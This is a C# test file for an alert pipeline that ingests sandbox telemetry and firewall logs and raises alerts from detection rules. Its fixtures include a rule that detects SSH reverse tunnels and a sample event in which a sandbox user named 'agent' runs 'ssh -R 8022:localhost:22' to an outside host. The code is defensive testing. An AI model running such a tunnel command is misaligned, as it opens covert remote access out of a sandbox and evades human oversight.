using System.Text;
using AlertPipeline.Core.Detect;
using AlertPipeline.Core.Events;
using AlertPipeline.Core.Ingest;
using AlertPipeline.Core.Respond;
using AlertPipeline.Functions.EventHubs;
using AlertPipeline.Functions.Functions;
using Microsoft.Extensions.Configuration;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;

namespace AlertPipeline.Functions.Tests.Functions;

/// <summary>
/// Drives the function classes through the app's own composition (no storage configured, so the in-memory stores),
/// with batches shaped as the host delivers them: bodies plus the binding data of the partition.
/// </summary>
public sealed class IngestFunctionsTests : IDisposable
{
    private const string SandboxHub = "sandbox-telemetry";
    private const string FirewallHub = "firewall-logs";

    private const string ReverseTunnelRuleId = "3d0b8c55-9c43-4f5e-8f43-5d0b7a2e1f01";

    private const string ReverseTunnelRule = """
        title: Test SSH reverse tunnel
        id: 3d0b8c55-9c43-4f5e-8f43-5d0b7a2e1f01
        status: test
        logsource:
          category: process_creation
          product: linux
        detection:
          selection:
            process.command_line|contains: 'ssh -R'
          condition: selection
        level: high
        """;

    private const string EcsReverseTunnel = """
        {"@timestamp":"2025-11-14T03:20:00.000Z","event":{"kind":"event","category":["process"],"type":["start"],"dataset":"sandbox.process"},"host":{"name":"sbx-gpu-07"},"sandbox":{"id":"sbx-7","run_id":"run-42"},"process":{"pid":4300,"name":"ssh","executable":"/usr/bin/ssh","command_line":"ssh -R 8022:localhost:22 tunnel@203.0.113.9"},"user":{"name":"agent"}}
        """;

    private const string Malformed = """{"@timestamp":"2025-11-14T03:20:01.000Z","event":{"kind":""";

    private const string FirewallEnvelope = """
        {"records":[{"category":"AzureFirewallNetworkRule","time":"2025-11-14T03:20:02.1000000Z","resourceId":"/SUBSCRIPTIONS/00000000-0000-0000-0000-000000000000/RESOURCEGROUPS/RG-SANDBOX/PROVIDERS/MICROSOFT.NETWORK/AZUREFIREWALLS/FW-SANDBOX-EGRESS","operationName":"AzureFirewallNetworkRuleLog","properties":{"msg":"TCP request from 10.0.1.5:43122 to 203.0.113.7:3333. Action: Deny."}}]}
        """;

    private readonly CapturingLoggerProvider _logs = new();
    private readonly ServiceProvider _services;

    public IngestFunctionsTests()
    {
        var configuration = new ConfigurationBuilder()
            .AddInMemoryCollection(new Dictionary<string, string?>
            {
                ["SandboxTelemetryHubName"] = SandboxHub,
                ["FirewallLogsHubName"] = FirewallHub,
                ["EventHubConsumerGroup"] = "alertpipeline",
            })
            .Build();
        var services = new ServiceCollection();
        services.AddLogging(b => b.AddProvider(_logs).SetMinimumLevel(LogLevel.Trace));
        FunctionsComposition.Configure(services, configuration);
        _services = services.BuildServiceProvider(new ServiceProviderOptions { ValidateOnBuild = true, ValidateScopes = true });
    }

    public void Dispose() => _services.Dispose();

    [Fact]
    public void Composition_UsesInMemoryStoresWithoutStorageSettings()
    {
        Assert.IsType<InMemoryDeadLetterStore>(_services.GetRequiredService<IDeadLetterStore>());
        Assert.IsType<InMemoryRuleStore>(_services.GetRequiredService<IRuleStore>());
        Assert.IsType<InMemoryAlertStore>(_services.GetRequiredService<IAlertStore>());
    }

    [Fact]
    public async Task SandboxBatch_ProcessesValidBodies_DeadLettersTheMalformedOne_AndDoesNotThrow()
    {
        var function = Create<IngestSandboxTelemetry>();

        await function.RunAsync(Bodies(EcsReverseTunnel, Malformed, FirewallEnvelope), Context(HostBindingData(SandboxHub, "3", 100)), CancellationToken.None);

        var deadLetter = Assert.Single(DeadLetters.Items);
        Assert.Equal(new SourcePosition($"{SandboxHub}/3", 101, 0), deadLetter.Position);

        var batch = Assert.Single(BatchLogs());
        Assert.Equal(nameof(IngestSandboxTelemetry), batch.State["Function"]);
        Assert.Equal($"{SandboxHub}/3", batch.State["Stream"]);
        Assert.Equal(100L, batch.State["FirstSequence"]);
        Assert.Equal(102L, batch.State["LastSequence"]);
        Assert.Equal(3, batch.State["Messages"]);
        Assert.Equal(2, batch.State["Accepted"]); // the ECS event and the one firewall record
        Assert.Equal(1, batch.State["Rejected"]);
    }

    [Fact]
    public async Task FirewallBatch_WithTypedBindingData_UsesThePartitionAndSequenceNumbers()
    {
        var function = Create<IngestFirewallLogs>();
        var bindingData = new Dictionary<string, object?>
        {
            // The worker hands long/string arrays over as typed collections when the host sends them that way.
            [EventHubBatch.PartitionContextKey] = PartitionContextJson(FirewallHub, "0"),
            [EventHubBatch.SequenceNumberArrayKey] = new List<long> { 7, 8 },
            [EventHubBatch.EnqueuedTimeUtcArrayKey] = """["2025-11-14T03:20:02Z","2025-11-14T03:20:03Z"]""",
            [EventHubBatch.OffsetArrayKey] = new[] { "4096", "8192" },
        };

        await function.RunAsync(Bodies(FirewallEnvelope, "not json at all"), Context(bindingData), CancellationToken.None);

        var deadLetter = Assert.Single(DeadLetters.Items);
        Assert.Equal(new SourcePosition($"{FirewallHub}/0", 8, 0), deadLetter.Position);

        // Everything a dead letter needs to be found on the hub and replayed.
        Assert.Equal(FirewallHub, deadLetter.Hub);
        Assert.Equal("0", deadLetter.PartitionId);
        Assert.Equal("8192", deadLetter.Offset);
        Assert.Equal(new DateTimeOffset(2025, 11, 14, 3, 20, 3, TimeSpan.Zero), deadLetter.EnqueuedTime);
        Assert.Equal("not json at all"u8.ToArray(), deadLetter.Payload.ToArray());
        var batch = Assert.Single(BatchLogs());
        Assert.Equal(1, batch.State["Accepted"]);
    }

    [Fact]
    public async Task Batch_WithoutBindingData_FallsBackToTheConfiguredHubAndIndexes()
    {
        var function = Create<IngestSandboxTelemetry>();

        await function.RunAsync(Bodies(Malformed), Context(new Dictionary<string, object?>()), CancellationToken.None);

        var deadLetter = Assert.Single(DeadLetters.Items);
        Assert.Equal(new SourcePosition($"{SandboxHub}/{EventHubBatch.UnknownPartition}", 0, 0), deadLetter.Position);
    }

    [Fact]
    public async Task SandboxBatch_WithAMatchingRule_StoresOneAlert_EvenWhenTheBatchIsRetried()
    {
        await _services.GetRequiredService<IRuleStore>().UpsertAsync(
            new RuleRecord("functions-test", ReverseTunnelRuleId, "Test SSH reverse tunnel", "high", true, RuleMode.Enforce, ReverseTunnelRule, DateTimeOffset.UnixEpoch),
            CancellationToken.None);
        var function = Create<IngestSandboxTelemetry>();
        var bodies = Bodies(EcsReverseTunnel, Malformed, FirewallEnvelope);

        // The host's retry policy re-runs the very same batch; the alert id is deterministic, so it stays one alert.
        await function.RunAsync(bodies, Context(HostBindingData(SandboxHub, "3", 100)), CancellationToken.None);
        await function.RunAsync(bodies, Context(HostBindingData(SandboxHub, "3", 100)), CancellationToken.None);

        var compileProblems = _logs.Entries.Where(e => e.EventId.Id == 3001).Select(e => e.State["Problem"]).ToList();
        Assert.Empty(compileProblems);
        var alerts = await _services.GetRequiredService<IAlertStore>().ListAsync(100, CancellationToken.None);
        var alert = Assert.Single(alerts);
        Assert.Equal(ReverseTunnelRuleId, alert.RuleId);
        Assert.Equal(AlertLevel.High, alert.Level);
        Assert.Equal("sbx-7", alert.SandboxId);
        Assert.Equal(1, alert.EventCount);
        Assert.Single(DeadLetters.Items);
    }

    [Fact]
    public async Task PipelineFailure_PropagatesSoTheHostRetriesTheBatch()
    {
        var configuration = new ConfigurationBuilder().Build();
        var services = new ServiceCollection();
        services.AddLogging(b => b.AddProvider(_logs));
        // Registered first, so the composition's TryAdd keeps it: the dead-letter store is unreachable.
        services.AddSingleton<IDeadLetterStore, UnreachableDeadLetterStore>();
        FunctionsComposition.Configure(services, configuration);
        using var provider = services.BuildServiceProvider();
        var function = ActivatorUtilities.CreateInstance<IngestFirewallLogs>(provider);

        await Assert.ThrowsAsync<IOException>(() =>
            function.RunAsync(Bodies(Malformed), new TestFunctionContext(provider, HostBindingData(FirewallHub, "1", 5)), CancellationToken.None));

        var failure = Assert.Single(_logs.Entries, e => e.EventId.Id == 5002);
        Assert.Equal(LogLevel.Error, failure.Level);
        Assert.IsType<IOException>(failure.Exception);
        Assert.Equal($"{FirewallHub}/1", failure.State["Stream"]);
    }

    private InMemoryDeadLetterStore DeadLetters => (InMemoryDeadLetterStore)_services.GetRequiredService<IDeadLetterStore>();

    private IEnumerable<CapturingLoggerProvider.LogEntry> BatchLogs() => _logs.Entries.Where(e => e.EventId.Id == 5001);

    // The worker activates function classes from the app's services the same way.
    private T Create<T>() => ActivatorUtilities.CreateInstance<T>(_services);

    private TestFunctionContext Context(IReadOnlyDictionary<string, object?> bindingData) => new(_services, bindingData);

    private static byte[][] Bodies(params string[] bodies) => [.. bodies.Select(b => Encoding.UTF8.GetBytes(b.Trim()))];

    /// <summary>Binding data of a batch as the host sends it without typed collections: JSON text throughout.</summary>
    private static Dictionary<string, object?> HostBindingData(string hub, string partition, long firstSequence) => new()
    {
        [EventHubBatch.PartitionContextKey] = PartitionContextJson(hub, partition),
        [EventHubBatch.SequenceNumberArrayKey] = $"[{firstSequence},{firstSequence + 1},{firstSequence + 2}]",
        [EventHubBatch.EnqueuedTimeUtcArrayKey] = """["2025-11-14T03:20:00.5Z","2025-11-14T03:20:01.5Z","2025-11-14T03:20:02.5Z"]""",
        [EventHubBatch.OffsetArrayKey] = """["1024","2048","3072"]""",
    };

    private static string PartitionContextJson(string hub, string partition) =>
        $$"""{"FullyQualifiedNamespace":"ns-sandbox.servicebus.windows.net","EventHubName":"{{hub}}","ConsumerGroup":"alertpipeline","PartitionId":"{{partition}}"}""";

    private sealed class UnreachableDeadLetterStore : IDeadLetterStore
    {
        public Task WriteAsync(IReadOnlyList<RejectedEvent> rejects, CancellationToken cancellationToken)
            => throw new IOException("dead-letter table unreachable");

        public Task<IReadOnlyList<DeadLetter>> ListAsync(DeadLetterQuery query, CancellationToken cancellationToken) => throw Unreachable();

        public Task<DeadLetter?> GetAsync(string id, CancellationToken cancellationToken) => throw Unreachable();

        public Task<byte[]?> ReadPayloadAsync(string id, CancellationToken cancellationToken) => throw Unreachable();

        public Task<bool> MarkReplayedAsync(string id, DateTimeOffset at, CancellationToken cancellationToken) => throw Unreachable();

        private static IOException Unreachable() => new("dead-letter table unreachable");
    }
}
